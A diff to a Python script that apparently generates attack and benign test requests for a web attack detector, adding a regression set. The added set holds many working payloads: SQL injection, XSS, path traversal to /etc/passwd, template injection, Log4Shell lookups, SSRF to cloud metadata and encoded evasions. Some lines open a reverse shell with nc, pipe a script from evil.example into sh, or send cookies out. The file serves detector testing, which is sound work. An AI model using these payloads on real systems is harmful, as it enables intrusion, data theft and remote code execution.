@@ -784,7 +784,10 @@ def main():
     att_c, ben_c = heldout_c()
     write(os.path.join(HERE, "attacks", "heldout-c.jsonl"), att_c)
     write(os.path.join(HERE, "benign", "heldout-c.jsonl"), ben_c)
-    print("attacks:", sum(len(v) for v in by_group.values()) + len(att_c), "benign:", len(b) + len(ben_c))
+    att_d, ben_d = set_d()
+    write(os.path.join(HERE, "attacks", "regression-d.jsonl"), att_d)
+    write(os.path.join(HERE, "benign", "regression-d.jsonl"), ben_d)
+    print("attacks:", sum(len(v) for v in by_group.values()) + len(att_c) + len(att_d), "benign:", len(b) + len(ben_c) + len(ben_d))
 
 
 
@@ -937,6 +940,792 @@ def heldout_c():
           '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetQuote><symbol>T</symbol><note>AT&amp;T -- select shares</note></GetQuote></soap:Body></soap:Envelope>'), "xml")
     b(req("POST", "/api/logs", dict(base_headers(), **{"Content-Type": "text/plain"}), "2024-05-17 10:00:01 INFO user=42 action=login ip=203.0.113.7 ua=\"Mozilla/5.0\""), "text body")
     b(req("POST", "/upload", dict(base_headers(), **{"Content-Type": "application/octet-stream"}), "\u0000\u0001binary<script>;|&"), "binary")
+    return att, ben
+
+
+# ---------------------------------------------------------------------------
+# Set "d": payload-list style attacks and tricky benign strings written after set c
+# to probe for gaps (then fixed: glob paths, `jav&#x09;ascript:`, Smarty, `@{}`,
+# SQL quoted in prose ...). Tuned on, so it is a regression set, not a held-out one.
+D_ATTACKS = [
+    "' or '",
+    "' or 1=1--",
+    "' or 1=1#",
+    "' or 1=1/*",
+    "') or ('1'='1",
+    "admin' #",
+    "admin'/*",
+    "' OR 'a'='a",
+    "1' ORDER BY 1--+",
+    "1' ORDER BY 10--+",
+    "' UNION SELECT NULL--",
+    "' UNION SELECT NULL,NULL--",
+    "1 AND 1=1",
+    "1 AND 1=2",
+    "1' AND '1'='1",
+    "\" OR \"\" = \"",
+    "' waitfor delay '0:0:5'--",
+    "1;WAITFOR DELAY '0:0:5'--",
+    "1 AND SLEEP(5)",
+    "' AND BENCHMARK(5000000,MD5(1))--",
+    "' or sleep(5)#",
+    "AND 1=CAST((SELECT version()) AS int)",
+    "' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))--",
+    "1' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),CHAR(33),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.TABLES GROUP BY x)--",
+    "-1' UNION SELECT 1,2,3--",
+    "%' AND 1=0 UNION SELECT username, password FROM users WHERE '%'='",
+    "'; DROP TABLE users; --",
+    "1'; SELECT * FROM users WHERE 't'='t",
+    "' OR EXISTS(SELECT * FROM users)--",
+    "<svg/onload=alert`1`>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    "\"><img src=x onerror=prompt(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<body/onload=alert(1)>",
+    "<input onfocus=alert(1) autofocus>",
+    "<select onfocus=alert(1) autofocus>",
+    "<textarea onfocus=alert(1) autofocus>",
+    "<keygen onfocus=alert(1) autofocus>",
+    "<video src=x onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "javascript:alert(document.domain)",
+    "<script src=//evil.example/x.js></script>",
+    "<script>fetch('//evil.example?c='+document.cookie)</script>",
+    "'\"><script>alert(String.fromCharCode(88,83,83))</script>",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<div onmouseover=\"alert(1)\">hover</div>",
+    "<object data=\"javascript:alert(1)\">",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<svg onload=eval(atob('YWxlcnQoMSk='))>",
+    "</script><script>alert(1)</script>",
+    "';alert(1)//",
+    "\\\";alert(1);//",
+    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
+    "../../../etc/passwd",
+    "../../../../../../etc/passwd%00",
+    "..%2F..%2F..%2Fetc%2Fpasswd",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252f..%252fetc%252fpasswd",
+    "..\\..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/proc/self/environ",
+    "/var/log/apache2/access.log",
+    "C:\\boot.ini",
+    "c:\\windows\\system32\\config\\sam",
+    "....//....//....//etc/passwd",
+    "..%c0%af..%c0%af..%c0%afetc/passwd",
+    "/..%5c..%5c..%5cwindows/win.ini",
+    "file:///etc/passwd",
+    ";id",
+    "|id",
+    "`id`",
+    "$(id)",
+    "&id",
+    "&&id",
+    "||id",
+    "%0aid",
+    ";sleep 5",
+    "|sleep 5",
+    ";ping -c 5 127.0.0.1",
+    "& ping -n 5 127.0.0.1",
+    "| whoami",
+    "; whoami",
+    ";uname -a",
+    "| dir",
+    "& dir c:\\",
+    ";cat /etc/passwd",
+    "$(cat /etc/passwd)",
+    "`cat /etc/passwd`",
+    ";nc -e /bin/sh 10.0.0.1 4444",
+    ";curl http://evil.example/shell.sh|sh",
+    ";wget http://evil.example/x -O /tmp/x",
+    "| type c:\\windows\\win.ini",
+    "';sleep 5;'",
+    "\";id;\"",
+    "a;id",
+    "127.0.0.1|id",
+    "1;/bin/ls",
+    ";/usr/bin/id",
+    "{{7*7}}",
+    "${7*7}",
+    "<%= 7*7 %>",
+    "#{7*7}",
+    "${{7*7}}",
+    "{{config}}",
+    "{{self}}",
+    "{{''.__class__.__mro__[2].__subclasses__()}}",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "{% debug %}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
+    "{{request.__class__}}",
+    "${jndi:ldap://evil.example/a}",
+    "${jndi:rmi://evil.example/a}",
+    "${jndi:dns://evil.example/a}",
+    "${${lower:jndi}:${lower:ldap}://evil.example/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
+    "${jndi:ldap://${env:USER}.evil.example/a}",
+    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//evil.example/a}",
+    "http://169.254.169.254/",
+    "http://169.254.169.254/latest/meta-data/",
+    "http://metadata.google.internal/computeMetadata/v1/",
+    "http://127.0.0.1:22",
+    "http://localhost:8080/admin",
+    "http://[::1]/",
+    "http://0.0.0.0/",
+    "http://2130706433/",
+    "http://0177.0.0.1/",
+    "http://0x7f000001/",
+    "gopher://127.0.0.1:6379/_INFO",
+    "file:///c:/windows/win.ini",
+    "dict://127.0.0.1:11211/",
+    "http://169.254.169.254.xip.io/",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "php://input",
+    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
+    "expect://id",
+    "<?php system('id'); ?>",
+    "<?php echo shell_exec($_GET['c']); ?>",
+    "O:8:\"stdClass\":0:{}",
+    "phar://./uploads/x.jpg",
+    "__proto__[admin]=1",
+    "{\"__proto__\":{\"admin\":true}}",
+    "constructor[prototype][admin]=1"
+]
+
+D_REQUESTS = [
+    {
+        "method": "GET",
+        "target": "/?q=%EF%BC%9Cscript%EF%BC%9Ealert%281%29%EF%BC%9C%2Fscript%EF%BC%9E",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%26%23x3C%3Bscript%26%23x3E%3Balert%281%29%26%23x3C%3B%2Fscript%26%23x3E%3B",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%26%2360script%26%2362alert%281%29%26%2360%2Fscript%26%2362",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "POST",
+        "target": "/api",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Content-Type": "application/json"
+        },
+        "body": "{\"q\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}"
+    },
+    {
+        "method": "POST",
+        "target": "/api",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Content-Type": "application/json"
+        },
+        "body": "{\"q\":\"1\\u0027 OR \\u00271\\u0027=\\u00271\"}"
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%bf%27%20or%201=1--",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%27%20oR%201%3D1--%20-",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%27%2F%2A%2A%2FOR%2F%2A%2A%2F1%3D1%23",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%2500%27%20or%201%3D1--",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%2527%2520or%25201%253D1--",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?file=..%25u2216..%25u2216etc%25u2216passwd",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?file=%25c0%25ae%25c0%25ae%2F%25c0%25ae%25c0%25ae%2Fetc%2Fpasswd",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?file=...%2F.%2F...%2F.%2F...%2F.%2Fetc%2Fpasswd",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/static/..%2f..%2f..%2fetc/passwd",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?cmd=%3Bca%5Ct%20%2Fet%5Cc%2Fpa%5Csswd",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?cmd=%24%28printf%20%27id%27%29",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?cmd=%3B%2F%3F%3F%3F%2F%3F%3Ft%20%2F%3F%3F%3F%2Fp%3F%3Fs%3F%3F",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?cmd=%7C%7C%20c%27%27at%20%2Fetc%2Fpasswd",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "() { :;}; /bin/bash -c \"wget http://evil.example/x\""
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Referer": "() { ignored;}; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "X-Forwarded-For": "127.0.0.1' or 1=1--"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Cookie": "id=1' UNION SELECT password FROM users--"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Cookie": "lang=../../../../etc/passwd"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Accept": "${jndi:ldap://evil.example/a}"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Authorization": "Bearer ${jndi:ldap://evil.example/a}"
+        }
+    },
+    {
+        "method": "POST",
+        "target": "/login",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Content-Type": "application/x-www-form-urlencoded"
+        },
+        "body": "username=admin%27--&password=x"
+    },
+    {
+        "method": "POST",
+        "target": "/comment",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Content-Type": "application/x-www-form-urlencoded"
+        },
+        "body": "text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"
+    },
+    {
+        "method": "POST",
+        "target": "/x",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Content-Type": "application/xml"
+        },
+        "body": "<?xml version=\"1.0\"?><user><name>' or 1=1--</name></user>"
+    },
+    {
+        "method": "POST",
+        "target": "/x",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0",
+            "Content-Type": "application/xml"
+        },
+        "body": "<?xml version=\"1.0\"?><user><name>&lt;script&gt;alert(1)&lt;/script&gt;</name></user>"
+    },
+    {
+        "method": "GET",
+        "target": "/?redirect=http%3A%2F%2F0x7f000001%3A8080%2F",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?url=http%3A%2F%2F%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0%2F",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?url=http%3A%2F%2F127.0.0.1.nip.io%2Fadmin",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?url=http%3A%2F%2F%5B0%3A0%3A0%3A0%3A0%3Affff%3A127.0.0.1%5D%2F",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?tpl=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__%28%29%5B40%5D%28%27%2Fetc%2Fpasswd%27%29.read%28%29%7D%7D",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?name=%7B%7B7%2A7%7D%7D",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?x=%7B%24smarty.version%7D",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?x=%23set%28%24e%3D%22e%22%29%24e.getClass%28%29.forName%28%22java.lang.Runtime%22%29",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?x=%40%7B7%2A7%7D",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%3Csvg%3E%3Canimatetransform%20onbegin%3Dalert%281%29%3E",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%3Ca%20href%3D%22data%3Atext%2Fhtml%3Bbase64%2CPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D%22%3Ex%3C%2Fa%3E",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%22onmouseover%3D%22alert%281%29",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%27%3Balert%28String.fromCharCode%2888%2C83%2C83%29%29%2F%2F",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%3Cscript%3Eeval%28location.hash.slice%281%29%29%3C%2Fscript%3E",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%3CScRiPt%20%3Ealert%281%29%3C%2FScRiPt%20%3E",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%3Cscr%00ipt%3Ealert%281%29%3C%2Fscr%00ipt%3E",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=javascript%26colon%3Balert%281%29",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?q=%3Ciframe%20src%3D%22jAvAsCrIpT%3Aalert%281%29%22%3E",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%20AND%20%28SELECT%206765%20FROM%20%28SELECT%28SLEEP%285%29%29%29OQT%29",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%29%20AND%207521%3D7521%20AND%20%283468%3D3468",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%27%20AND%203556%3D3556%20AND%20%27pOyw%27%3D%27pOyw",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=-5305%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7176%2C0x78%29--%20-",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%20procedure%20analyse%28extractvalue%28rand%28%29%2Cconcat%280x3a%2Cversion%28%29%29%29%2C1%29",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%27%20AND%201%3D%28SELECT%201%20FROM%20pg_sleep%285%29%29--",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=%28select%280%29from%28select%28sleep%285%29%29%29v%29%2F%2A%27%2B%28select%280%29from%28select%28sleep%285%29%29%29v%29%2B%27%22%2B%28select%280%29from%28select%28sleep%285%29%29%29v%29%2B%22%2A%2F",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    },
+    {
+        "method": "GET",
+        "target": "/?id=1%3BEXEC%20master..xp_cmdshell%20%27ping%20127.0.0.1%27--",
+        "headers": {
+            "Host": "h",
+            "User-Agent": "Mozilla/5.0"
+        }
+    }
+]
+
+D_BENIGN = [
+    "What's the best way to learn SQL? I tried \"SELECT * FROM table\" but it's confusing.",
+    "Order by date; newest first",
+    "I'll be there at 5 -- promise!",
+    "Can't login; password reset doesn't work",
+    "Buy 1 get 1 free (limited time) -- while supplies last",
+    "Dear Sir/Madam, please find attached my CV.",
+    "Use <br> for line breaks",
+    "<p>Hello <strong>world</strong></p>",
+    "The function returns true if x > 0 and y < 10",
+    "email: first.last+tag@sub.example.co.uk",
+    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
+    "https://example.com/search?q=select+from&sort=asc",
+    "192.168.0.1",
+    "10.0.0.0/8",
+    "::1 is the IPv6 loopback",
+    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
+    "/usr/local/bin/python3",
+    "~/Documents/report.docx",
+    "$HOME/.config",
+    "echo \"hello world\"",
+    "npm install --save-dev @types/node",
+    "git log --oneline | head -5",
+    "SELECT name FROM products WHERE price < 100",
+    "UPDATE: the meeting is moved to 3pm",
+    "DROP by anytime!",
+    "Union Pacific Railroad",
+    "I want to exec my plan",
+    "He said: \"It's 5 o'clock somewhere\"",
+    "1 + 1 = 2",
+    "a=b&c=d",
+    "key=value; other=thing",
+    "100% satisfaction -- guaranteed",
+    "#1 best seller!!!",
+    "@john please review",
+    "Q: What is 2+2? A: 4",
+    "sleep tight, see you tomorrow",
+    "My cat's name is Whiskers; my dog's name is Rex",
+    "Price < $50 & free shipping",
+    "Tom's Diner & Bar",
+    "Sales (Q3) increased 15% vs. Q2",
+    "fr-FR,fr;q=0.9,en;q=0.8",
+    "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
+    "{\"key\": \"value\", \"n\": 1}",
+    "[1, 2, 3]",
+    "user@example.com; admin@example.com",
+    "Ticket #4521: printer on 3rd floor won't print",
+    "I'm using Windows 10; the cmd window closes immediately",
+    "Run \"pip install requests\" then \"python main.py\"",
+    "if (x == 1) { return; }",
+    "x = y * 2 + (z / 3)",
+    "<3 <3 <3",
+    ":) :( ;) :D",
+    "The script tag <script> is used for JavaScript",
+    "Contact us: +1-800-555-0199 (toll free)",
+    "Spaghetti & meatballs; garlic bread",
+    "\"quoted\"",
+    "'single'",
+    "O'Neil, D'Arcy & McDonald's",
+    "Johnson & Johnson",
+    "AT&T; Verizon; T-Mobile",
+    "3 > 2 > 1",
+    "5' 11\" tall",
+    "6'2\" and 180 lbs",
+    "10 < 20 or 30 > 25",
+    "rm -rf node_modules && npm ci",
+    "sudo apt-get update",
+    "cd ~ && ls",
+    "pg_dump mydb > backup.sql",
+    "The Union select committee met today.",
+    "or else!",
+    "and then there were none",
+    "http://localhost:3000/callback",
+    "Enter your name (e.g. \"John\")",
+    "don't/won't/can't",
+    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
+    "¿Dónde está la biblioteca?",
+    "Ich heiße Jürgen und wohne in Köln.",
+    "Москва — столица России.",
+    "北京欢迎你",
+    "شكراً لك",
+    "שלום עולם",
+    "こんにちは世界",
+    "안녕하세요",
+    "Xin chào",
+    "สวัสดีครับ",
+    "नमस्ते दुनिया",
+    "Γειά σου Κόσμε",
+    "😀🎉👍 great!!!",
+    "Résumé.pdf",
+    "naïve coöperation",
+    "/api/v1/users/123/orders?status=open",
+    "../assets/img.png",
+    "./configure && make && make install",
+    "SELECT * FROM users; -- just kidding",
+    "DELETE my account please",
+    "Please UPDATE my address to 12 Main St.",
+    "insert coin to continue",
+    "exec summary attached",
+    "${name} template variable",
+    "{{ user.name }}",
+    "<%= link_to 'Home', root_path %>",
+    "#{interpolation} in ruby",
+    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+    "javascript is fun",
+    "java.lang.String",
+    "class Foo extends Bar {}",
+    "import os; os.getcwd()",
+    "eval is evil",
+    "function() { return this; }",
+    "() => {}",
+    "$ne is not equal in mongo",
+    "user[name]=john&user[age]=30",
+    "filter[status]=active&page[size]=20",
+    "<a href=\"https://example.com\">link</a>",
+    "<img src=\"https://cdn.example.com/a.png\" alt=\"photo\">",
+    "&lt;b&gt;bold&lt;/b&gt;",
+    "&amp; &quot; &#39;",
+    "%20%3C%3E",
+    "50%25 off",
+    "Wait -- what?",
+    "--help",
+    "-v --verbose",
+    "~$ whoami"
+]
+
+
+def set_d():
+    att, ben = [], []
+    for i, p in enumerate(D_ATTACKS):
+        h = base_headers()
+        if i % 2:
+            r = req("GET", "/find?q=" + q(p), h, note="query")
+        else:
+            h["Content-Type"] = "application/json"
+            r = req("POST", "/api/find", h, json.dumps({"q": p}), note="json")
+        r["group"], r["set"] = "payload_list", "d"
+        att.append(r)
+    for r in D_REQUESTS:
+        r = dict(r, group="payload_list", set="d", note="encodings and places")
+        att.append(r)
+    for i, t in enumerate(D_BENIGN):
+        h = base_headers()
+        if i % 2:
+            r = req("GET", "/find?q=" + q(t), h, note="query")
+        else:
+            h["Content-Type"] = "application/json"
+            r = req("POST", "/api/notes", h, json.dumps({"text": t}), note="json")
+        r["set"] = "d"
+        ben.append(r)
     return att, ben
 
 
